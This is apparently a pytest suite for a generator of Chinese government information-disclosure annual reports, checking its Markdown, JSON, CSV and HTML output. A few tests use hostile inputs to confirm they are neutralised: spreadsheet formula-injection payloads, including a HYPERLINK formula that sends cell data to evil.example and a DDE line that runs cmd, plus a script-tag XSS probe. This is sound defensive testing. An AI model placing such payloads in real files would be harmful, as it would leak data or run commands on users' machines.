"""Every output format parses and says the same numbers."""

from __future__ import annotations

import csv
import io
import json

import pytest
from selectolax.lexbor import LexborHTMLParser

from gongkai.report import (
    ReportError,
    available_years,
    build_report,
    render_csv,
    render_html,
    render_json,
    render_markdown,
    render_report,
    report_css,
)
from gongkai.report.layout import APPLICATION_ROWS, RESULT_ROWS
from tests.projects import Project
from tests.report.report_helpers import TODAY, valid_input


@pytest.fixture
def report(site: Project):
    site.report_item("2024-02-01", category="规范性文件", genre="规范性文件", department="住房保障股")
    site.report_item("2024-03-01")
    site.report_item("2024-04-01", category="政策解读")
    site.report(2024, valid_input())
    return build_report(site.load(), 2024, TODAY)


def test_markdown_has_the_six_sections_and_labels(report):
    text = render_markdown(report)
    assert text.startswith("# 测试县住房和城乡建设局2024年政府信息公开工作年度报告\n")
    headings = [line[3:] for line in text.splitlines() if line.startswith("## ")]
    assert headings == [
        "一、总体情况", "二、主动公开政府信息情况", "三、收到和处理政府信息公开申请情况",
        "四、政府信息公开行政复议、行政诉讼情况", "五、存在的主要问题及改进情况", "六、其他需要报告的事项",
    ]
    for label in ("规章", "行政规范性文件", "本年制发件数", "行政许可", "本年收费金额（单位：万元）",
                  "（三）不予公开：3.危及“三安全一稳定”", "（七）总计", "四、结转下年度继续办理",
                  "法人或其他组织：商业企业", "尚未审结"):
        assert label in text
    rows = {line.split(" | ")[0].lstrip("| "): line for line in text.splitlines() if line.startswith("| ")}
    assert rows["（一）予以公开"] == "| （一）予以公开 | 2 | 1 | 0 | 0 | 0 | 0 | 3 |"
    assert rows["行政事业性收费"] == "| 行政事业性收费 | 1.25 |"
    assert "本年主动公开政府信息 3 条" in text


def test_json_has_the_documented_fields(report):
    data = json.loads(render_json(report))
    assert data["year"] == 2024
    assert data["proactive_total"] == 3
    assert data["by_category"] == {"规范性文件": 1, "政策解读": 1, "动态信息": 1}
    assert data["by_department"] == {"办公室": 2, "住房保障股": 1}
    assert data["active_disclosure"]["normative_documents"] == {"made": 1, "repealed": 0, "valid": 1}
    assert data["active_disclosure"]["licensing"] == 10 and data["active_disclosure"]["fees"] == 1.25
    rows = {row["key"]: row for row in data["applications"]["rows"]}
    assert [row["key"] for row in data["applications"]["rows"]] == [row.key for row in APPLICATION_ROWS]
    assert rows["results.withheld.third_party"]["label"] == "（三）不予公开：4.保护第三方合法权益"
    assert rows["results.total"]["values"]["total"] == 5
    assert data["review_litigation"]["review"] == {"upheld": 1, "corrected": 0, "other": 0, "pending": 1, "total": 2}
    assert data["overview"].startswith("本年度") and data["other_matters"]


def test_csv_is_one_tidy_row_per_number(report):
    rows = list(csv.reader(io.StringIO(render_csv(report))))
    assert rows[0] == ["年度", "栏目", "项目", "指标", "数值"]
    assert all(len(row) == 5 and row[0] == "2024" for row in rows[1:])
    cells = {(row[2], row[3]): row[4] for row in rows[1:]}
    assert cells[("（一）予以公开", "商业企业")] == "1"
    assert cells[("四、结转下年度继续办理", "总计")] == "1"
    assert cells[("行政规范性文件", "现行有效件数")] == "1"
    assert cells[("行政诉讼（复议后起诉）", "结果纠正")] == "1"
    assert cells[("行政事业性收费", "本年收费金额（单位：万元）")] == "1.25"
    assert cells[("合计", "条数")] == "3"
    assert len([row for row in rows if row[1] == "三、收到和处理政府信息公开申请情况"]) == len(APPLICATION_ROWS) * 7


def _grid(table) -> list[list[str]]:
    """The table as a grid, spans expanded the way a browser lays them out."""
    grid: dict[tuple[int, int], str] = {}
    for r, tr in enumerate(table.css("tr")):
        c = 0
        for cell in tr.css("th, td"):
            while (r, c) in grid:
                c += 1
            rows, cols = int(cell.attributes.get("rowspan") or 1), int(cell.attributes.get("colspan") or 1)
            for dr in range(rows):
                for dc in range(cols):
                    grid[(r + dr, c + dc)] = cell.text(strip=True)
            c += cols
    height = max(r for r, _ in grid) + 1
    width = max(c for _, c in grid) + 1
    return [[grid.get((r, c), "") for c in range(width)] for r in range(height)]


def test_html_tables_have_the_national_layout(report):
    page = LexborHTMLParser(render_html(report))
    tables = page.css("table")
    captions = [caption.text() for t in tables if (caption := t.css_first("caption")) is not None]
    assert len(captions) == len(tables)
    assert captions[0] == "2024年主动公开政府信息情况"
    applications = tables[captions.index("2024年收到和处理政府信息公开申请情况")]
    appeals = tables[captions.index("2024年政府信息公开行政复议、行政诉讼情况")]

    head = applications.css_first("thead")
    assert head is not None and len(head.css("tr")) == 3
    first = head.css("th")[0]
    assert (first.attributes["rowspan"], first.attributes["colspan"]) == ("3", "3")
    assert first.text().startswith("（本列数据的勾稽关系为")
    assert [th.text() for th in head.css("th[colspan='5']")] == ["法人或其他组织"]

    grid = _grid(applications)
    assert all(len(line) == 10 for line in grid)
    assert grid[1][3:] == ["自然人", "法人或其他组织", "法人或其他组织", "法人或其他组织", "法人或其他组织", "法人或其他组织", "总计"]
    assert grid[2][4:9] == ["商业企业", "科研机构", "社会公益组织", "法律服务机构", "其他"]
    body = grid[3:]
    assert len(body) == len(APPLICATION_ROWS)
    assert body[2][0] == "三、本年度办理结果" and body[2 + len(RESULT_ROWS)][0] == "三、本年度办理结果"
    assert body[7][1:3] == ["（三）不予公开", "4.保护第三方合法权益"] and body[7][3:] == ["1", "0", "0", "0", "0", "0", "1"]
    assert body[-1][:3] == ["四、结转下年度继续办理"] * 3

    numbers = applications.css("td")
    assert numbers and all("num" in (td.attributes.get("class") or "") for td in numbers)

    appeal_grid = _grid(appeals)
    assert appeal_grid[0][:5] == ["行政复议"] * 5 and appeal_grid[0][5:] == ["行政诉讼"] * 10
    assert appeal_grid[1][5] == "未经复议直接起诉" and appeal_grid[1][10] == "复议后起诉"
    assert appeal_grid[2][:5] == ["结果维持", "结果纠正", "其他结果", "尚未审结", "总计"]
    assert appeal_grid[3] == ["1", "0", "0", "1", "2", "0", "0", "0", "0", "0", "0", "1", "0", "0", "1"]


def test_html_escapes_the_clerks_text(site: Project):
    data = valid_input()
    data["overview"] = "<script>alert(1)</script>第一段\n第二段"
    site.report(2024, data)
    html = render_html(build_report(site.load(), 2024, TODAY))
    assert "<script>" not in html and "&lt;script&gt;" in html
    assert "<p>第二段</p>" in html


def test_css_right_aligns_numbers_and_has_a_print_layout():
    css = report_css()
    assert ".num" in css and "text-align: right" in css and "@media print" in css


def test_available_years_and_missing_year(site: Project):
    site.report(2024, valid_input())
    site.report(2025, valid_input())
    (site.root / "content" / "reports" / "notes.yml").write_text("x: 1\n", encoding="utf-8")
    project = site.load()
    assert available_years(project) == [2024, 2025]
    with pytest.raises(ReportError, match="没有 2023 年的年度报告数据.*现有：2024、2025 年"):
        render_report(project, 2023, "markdown", today=TODAY)


@pytest.mark.parametrize("target", ["2024.yml", "/nonexistent/2023.yml", "folder"])
def test_a_year_file_that_is_not_a_file_of_its_own_is_named_as_such(site: Project, target):
    """A link (to another year's data, or dangling) or a folder in its place is never read, nor "no data" for the year."""
    site.report(2024, valid_input())
    year_file = site.root / "content" / "reports" / "2023.yml"
    if target == "folder":
        year_file.mkdir()
    else:
        year_file.symlink_to(target)
    with pytest.raises(ReportError, match="content/reports/2023.yml 不是普通文件（符号链接或文件夹）"):
        render_report(site.load(), 2023, "markdown", today=TODAY)


def test_input_with_errors_is_refused_with_a_pointer_to_check(site: Project):
    data = valid_input()
    data["applications"]["new"]["total"] = 9
    site.report(2024, data)
    with pytest.raises(ReportError) as caught:
        render_report(site.load(), 2024, "json", today=TODAY)
    assert "gongkai check content/reports/2024.yml" in str(caught.value)
    assert "GK810" in str(caught.value)


def test_every_format_renders(site: Project):
    site.report(2024, valid_input())
    project = site.load()
    for fmt in ("markdown", "json", "csv", "html"):
        assert "2024" in render_report(project, 2024, fmt, today=TODAY)
    with pytest.raises(ReportError, match="不支持的格式"):
        render_report(project, 2024, "pdf", today=TODAY)


@pytest.mark.parametrize("formula", ['=HYPERLINK("http://evil.example/?"&A1,"点击")',
                                     '＝HYPERLINK("http://evil.example/?"&A1,"点击")', '＠SUM(1+1)*cmd|" /C calc"!A0'])
def test_a_department_named_as_a_formula_reaches_the_report_csv_as_text(site: Project, formula: str):
    site.catalog = site.catalog.replace("departments:\n", f"departments:\n  - {{name: '{formula}', slug: evil}}\n", 1)
    site.write_catalog()
    site.report_item("2024-02-01", department=formula)
    site.report(2024, valid_input())
    rows = list(csv.reader(io.StringIO(render_csv(build_report(site.load(), 2024, TODAY)), newline="")))
    assert "'" + formula in [row[2] for row in rows]
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")) for row in rows for cell in row)


def test_a_row_of_counts_that_reads_as_a_personal_number_on_the_report_page_is_found(site: Project):
    """Each count was read alone, but the page prints table 四's row of them joined, as a body's table row is read:
    1101011 | 990030700 | 38 | 0 reads as the 身份证号 110101199003070038."""
    from gongkai.checks import privacy
    from tests.report.report_helpers import appeal

    data = valid_input()
    data["review_litigation"]["review"] = appeal(upheld=1101011, corrected=990030700, other=38)
    site.report(2024, data)
    found = [p for p in site.check(TODAY) if p.code == privacy.ID18.code]
    assert [(p.path, "年度报告（2024 年）网页的表格" in p.message) for p in found] == [("content/reports/2024.yml", True)]
